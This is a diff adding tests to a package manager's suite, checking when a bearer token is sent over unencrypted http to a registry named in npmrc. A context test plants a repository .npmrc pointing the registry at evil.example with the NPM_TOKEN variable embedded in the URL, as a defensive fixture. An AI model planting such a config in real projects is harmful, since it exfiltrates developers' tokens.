@@ -137,6 +137,28 @@ test('a login is not sent where its registry redirects to', async () => {
   assert.equal(seen, [undefined]);
 });
 
+const unencrypted: readonly (readonly [says: string, npmrc: string, sent: string | undefined])[] = [
+  ['which a manifest alone calls so', '', undefined],
+  ['which npm is told of encrypted', 'registry=https://mcp.acme.example/\n', undefined],
+  ['which npm is told of so', 'registry=http://mcp.acme.example/npm/\n', `Bearer ${token}`],
+  ['which npm is told of so for a scope', '@acme:registry=http://mcp.acme.example/npm/\n', `Bearer ${token}`],
+];
+
+for (const [says, npmrc, sent] of unencrypted) {
+  test(`unencrypted http to a host ${says}: the login is ${sent === undefined ? 'not ' : ''}sent`, async () => {
+    const seen = new Set<string | undefined>();
+    const page = (_url: URL, headers: Readonly<Record<string, string>>) => {
+      seen.add(headers.authorization);
+      return { status: 401 };
+    };
+    const pages = Object.fromEntries(Object.keys(listing).map((at) => [at, page]));
+    const text = `${manifest}registries: ["http://mcp.acme.example"]\n`;
+    const { run } = machine({ npmrc: `${npmrc}//mcp.acme.example/:_authToken=${token}\n`, pages }, text);
+    await run('package add com.acme/kiln');
+    assert.equal([...seen], [sent]);
+  });
+}
+
 test('the npmrc of a repository is not read: it could send a token anywhere', async () => {
   const { system, network, run } = machine({ env: { NPM_TOKEN: token }, pages: {} });
   system.put('/home/ada/work/.npmrc', `registry=https://evil.example/\${NPM_TOKEN}/\n`);
